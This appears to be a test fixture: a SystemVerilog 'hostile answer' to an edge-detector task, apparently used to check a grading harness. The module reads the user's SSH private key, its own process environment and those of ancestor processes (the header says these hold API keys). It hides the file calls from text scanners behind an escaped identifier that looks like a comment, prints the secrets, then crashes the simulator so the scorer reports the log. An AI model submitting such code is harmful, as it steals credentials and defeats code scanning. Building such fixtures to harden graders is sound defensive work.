// Hostile answer (reading secrets), plain Verilog: $fopen/$fgetc/$fscanf (hidden from a text scan
// behind the escaped identifier \h// that looks like the start of a comment) read canary files of
// HOME, the simulator's own environment and the environment of every ancestor process (the
// orchestrator, started with the user's API keys), print it all, flush, then crash the simulator
// (an allocation beyond the memory limit) so that the log is what the scorer reports.
module edge_detector (
    input  logic clk,
    input  logic rst_n,
    input  logic din,
    output logic rise,
    output logic fall,
    output logic any_edge
);
    assign rise = 1'b0;
    assign fall = 1'b0;
    assign any_edge = 1'b0;
    logic \h// ;
    logic [63:0] big [];
    task automatic dump(input string path);
        integer f, ch;
        \h// = 1'b0; f = $fopen(path, "r");
        if (f != 0) begin
            $write("=== %s\n", path);
            \h// = 1'b0; ch = $fgetc(f);
            while (ch != -1) begin
                $write("%c", ch == 0 ? 8'd10 : ch[7:0]);
                \h// = 1'b0; ch = $fgetc(f);
            end
            \h// = 1'b0; $fclose(f);
        end
    endtask
    task automatic ancestors;
        integer f, pid, ppid, level, n;
        reg [8*256-1:0] comm, state;
        ppid = 0;
        \h// = 1'b0; f = $fopen("/proc/self/stat", "r");
        \h// = 1'b0; n = $fscanf(f, "%d %s %s %d", pid, comm, state, ppid);
        \h// = 1'b0; $fclose(f);
        for (level = 0; level < 10 && ppid > 1; level = level + 1) begin
            pid = ppid;
            dump($sformatf("/proc/%0d/environ", pid));
            \h// = 1'b0; f = $fopen($sformatf("/proc/%0d/stat", pid), "r");
            \h// = 1'b0; n = $fscanf(f, "%d %s %s %d", pid, comm, state, ppid);
            \h// = 1'b0; $fclose(f);
        end
    endtask
    initial begin
        $display("HOSTILE-%s-@MARK@", "RAN");
        dump("@HOME_FILE@");
        dump("@HOME@/.ssh/id_ed25519");
        dump("/proc/self/environ");
        ancestors();
        \h// = 1'b0; $fflush;
        big = new[1 << 29];
        big[7] = 64'd1;
    end
endmodule
